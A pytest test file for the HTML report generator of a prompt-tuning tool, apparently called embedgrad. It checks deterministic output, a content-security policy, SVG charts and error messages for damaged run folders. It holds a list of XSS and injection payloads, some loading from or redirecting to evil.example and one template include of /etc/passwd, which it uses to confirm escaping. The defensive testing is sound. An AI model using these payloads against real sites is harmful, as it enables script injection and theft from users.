"""The report page: complete, inert, the same for the same folder; broken folders are told in words."""

from __future__ import annotations

import json
import subprocess
import sys
import xml.etree.ElementTree as ElementTree
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from made_up_run import answer, result, row, write_lines, write_run

from embedgrad.errors import EmbedgradError, FileMissing
from embedgrad.report.figures import learning_curve
from embedgrad.report.page import write_report
from embedgrad.report.run_folder import read_run

PAYLOADS = [
    "<script>alert(1)</script>",
    "</pre><script src=//evil.example/x.js></script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<a href=javascript:alert(1)>x</a>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><button>x</button></form>",
    "<style>@import '//evil.example/x.css'</style>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "&lt;script&gt;&#x3C;script>",
]
OUR_TAGS = (
    "html head meta title style body header main section article h1 h2 p b div table thead tbody tr th td "
    "figure pre dl dt dd svg defs g path use text clippath rect"
)


class Page(HTMLParser):
    """All tags, attributes and text of a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.words = ""
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        if tag != "meta":
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self.open.pop()

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words += data


@pytest.fixture
def run_folder(tmp_path: Path) -> Path:
    write_run(tmp_path / "run")
    return tmp_path / "run"


def written(folder: Path) -> str:
    return write_report(folder).read_text(encoding="utf-8")


def test_the_page_tells_the_run(run_folder: Path) -> None:
    html = written(run_folder)
    page = Page(html)
    assert page.open == []
    assert page.tags <= set(OUR_TAGS.split())
    words = page.words.replace("\u00a0", " ")
    for part in (
        "42.1 % -> 71.3 % on 1,240 unseen rows, +29.2 points, 95 % interval 26.4 to 32.0, p < 0.001",
        "42.1 % (40.1 to 45.1)",
        "Fixed: 12 rows",
        "10 shown; all are in predictions.jsonl.",
        "Broken: 1 row",
        "12 min 34 s, 0.25 s per step",
        "40, best at 20",
        "all epochs done",
        "3.1 GB",
        "800 training, 200 validation, 1,240 test, 3 removed as duplicates",
        "embedgrad 0.1.0, torch 2.13.0",
        'model = "Qwen/Qwen2.5-0.5B-Instruct"\nepochs = 8\n',
    ):
        assert part in words
    assert words.count("input ") == 11  # ten fixed, one broken
    policy = "default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'"
    assert ("content", policy) in page.attributes
    assert html.index("Content-Security-Policy") < html.index("<style")


def test_the_same_folder_gives_the_same_bytes(run_folder: Path) -> None:
    first = write_report(run_folder).read_bytes()
    assert write_report(run_folder).read_bytes() == first


@pytest.mark.parametrize("payload", PAYLOADS)
def test_texts_from_outside_stay_text(run_folder: Path, payload: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("embedgrad.report.page.learning_curve", lambda record: "")  # has no texts; slow
    write_lines(
        run_folder / "predictions.jsonl",
        [row(1, answer(payload, False), answer(payload, True)) | {"input": payload, "target": payload}],
    )
    changed = result() | dict.fromkeys(("model", "prompt_text", "prompt_file", "stopped"), payload)
    changed["versions"] = {payload: payload}
    for side in ("before", "after"):
        changed[side] = changed[side] | {"prompt": payload}
    (run_folder / "result.json").write_text(json.dumps(changed), encoding="utf-8")
    (run_folder / "settings.toml").write_text(f"model = {json.dumps(payload)}\n", encoding="utf-8")
    page = Page(written(run_folder))
    assert page.open == []
    assert page.tags <= set(OUR_TAGS.split())
    for name, value in page.attributes:
        assert not name.startswith("on")
        assert name not in {"src", "href", "srcdoc", "action", "data"}
        assert name != "xlink:href" or value.startswith("#")
        assert "javascript:" not in value.lower()
    # title, heading, prompt file, prompt text, two scores, versions twice, input, target, outputs, stopped
    assert page.words.count(payload) >= 12


def test_the_curve_is_xml_with_labeled_axes(run_folder: Path) -> None:
    svg = learning_curve(read_run(run_folder))
    words = [text.text for text in ElementTree.fromstring(svg).iter("{http://www.w3.org/2000/svg}text")]
    for label in (
        "step",
        "(nats per target token)",
        "accuracy (%)",
        "training",
        "validation",
        "best: step 20",
    ):
        assert label in words
    assert "currentColor" in svg
    assert "#ffffff" not in svg


def test_the_curve_without_a_metric_has_one_panel(run_folder: Path) -> None:
    metrics = [json.loads(line) for line in (run_folder / "metrics.jsonl").read_text().splitlines()]
    write_lines(run_folder / "metrics.jsonl", [one | ({"accuracy": None} if "best" in one else {}) for one in metrics])
    assert "accuracy (%)" not in learning_curve(read_run(run_folder))


def test_without_a_metric_rows_are_told_by_their_loss(run_folder: Path) -> None:
    plain = {"prediction": None, "correct": None}
    rows = [
        row(line, answer("a", False, before) | plain, answer("b", False, after) | plain)
        for line, (before, after) in enumerate([(1.0, 0.9), (1.0, 0.2), (1.0, 1.5), (1.0, 1.0)], start=1)
    ]
    write_lines(run_folder / "predictions.jsonl", rows)
    (run_folder / "result.json").write_text(json.dumps(result() | {"comparison": None}), encoding="utf-8")
    words = Page(written(run_folder)).words
    assert "Loss fell: 2 rows" in words
    assert "Loss rose: 1 row" in words
    assert words.index("input 2") < words.index("input 1") < words.index("input 3")
    assert "input 4" not in words


def test_long_outputs_are_cut_with_a_mark(run_folder: Path) -> None:
    write_lines(run_folder / "predictions.jsonl", [row(1, answer("x" * 1000, False), answer("joy", True))])
    assert "x" * 600 + " … [400 more characters]" in Page(written(run_folder)).words


def test_no_steps_no_prompt_text_and_no_rows(run_folder: Path) -> None:
    (run_folder / "metrics.jsonl").write_text("")
    (run_folder / "predictions.jsonl").write_text("")
    (run_folder / "result.json").write_text(json.dumps(result() | {"prompt_text": None}), encoding="utf-8")
    words = Page(written(run_folder)).words
    assert "The tuned prompt did not start from a text." in words
    assert "Fixed: 0 rows" in words


def test_a_half_written_last_metric_is_passed_over_and_later_steps_count(run_folder: Path) -> None:
    with (run_folder / "metrics.jsonl").open("a", encoding="utf-8") as file:
        file.write('{"event": "validation", "step": 40, "loss": 7.0, "accuracy": null, "best": false}\n')
        file.write('{"event": "step", "st')
    record = read_run(run_folder)
    assert [at.step for at in record.steps] == list(range(1, 41))
    assert [(at.step, at.loss) for at in record.validations] == [(0, 2.0), (20, 1.5), (40, 7.0)]


def test_no_such_folder(run_folder: Path) -> None:
    with pytest.raises(FileMissing) as caught:
        read_run(run_folder.with_name("runn"))
    assert str(caught.value) == f'There is no run folder {run_folder}n. Did you mean "run"?'


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("result.json", "has no result.json: the run has not finished. Continue it with --resume first."),
        ("metrics.jsonl", "has no metrics.jsonl. Put it back if it was moved, else repeat the run."),
        ("predictions.jsonl", "has no predictions.jsonl. Put it back if it was moved, else repeat the run."),
        ("settings.toml", "has no settings.toml. Put it back if it was moved, else repeat the run."),
    ],
)
def test_missing_files(run_folder: Path, name: str, problem: str) -> None:
    (run_folder / name).unlink()
    with pytest.raises(EmbedgradError) as caught:
        write_report(run_folder)
    assert str(caught.value) == f"The run folder {run_folder} {problem}"


def test_a_file_that_cannot_be_read(run_folder: Path) -> None:
    (run_folder / "result.json").unlink()
    (run_folder / "result.json").mkdir()
    with pytest.raises(EmbedgradError) as caught:
        read_run(run_folder)
    assert str(caught.value) == f"Could not read {run_folder / 'result.json'}: Is a directory."


def _wrong_type(folder: Path) -> str:
    (folder / "result.json").write_text(json.dumps(result() | {"steps": "many"}), encoding="utf-8")
    return f"{folder}/result.json is not what embedgrad writes: steps: Input should be a valid integer."


def _unknown_key(folder: Path) -> str:
    (folder / "result.json").write_text(json.dumps(result() | {"extra": 1}), encoding="utf-8")
    return f"{folder}/result.json is not what embedgrad writes: extra: Extra inputs are not permitted."


def _broken_metric(folder: Path) -> str:
    path = folder / "metrics.jsonl"
    path.write_text(path.read_text().replace('"loss": 1.0,', '"loss": NaN,'), encoding="utf-8")
    return f"{path}, line 2 is not what embedgrad writes: step.loss: Input should be a finite number."


def _broken_row(folder: Path) -> str:
    path = folder / "predictions.jsonl"
    path.write_text(path.read_text() + "{", encoding="utf-8")
    return (
        f"{path}, line 15 is not what embedgrad writes: Invalid JSON: EOF while parsing an object at line 1 column 1."
    )


def _broken_settings(folder: Path) -> str:
    (folder / "settings.toml").write_text("model =", encoding="utf-8")
    return f"{folder}/settings.toml is not what embedgrad writes: Invalid value (at end of document)."


@pytest.mark.parametrize("damage", [_wrong_type, _unknown_key, _broken_metric, _broken_row, _broken_settings])
def test_broken_files(run_folder: Path, damage: Callable[[Path], str]) -> None:
    expected = damage(run_folder)
    with pytest.raises(EmbedgradError) as caught:
        read_run(run_folder)
    assert str(caught.value) == f"{expected} It was damaged or changed: restore it or repeat the run."


def test_matplotlib_waits_until_a_report_is_written() -> None:
    code = "import sys, embedgrad.report.page; print({'matplotlib', 'torch', 'transformers'} & set(sys.modules))"
    done: Any = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout == "set()\n"
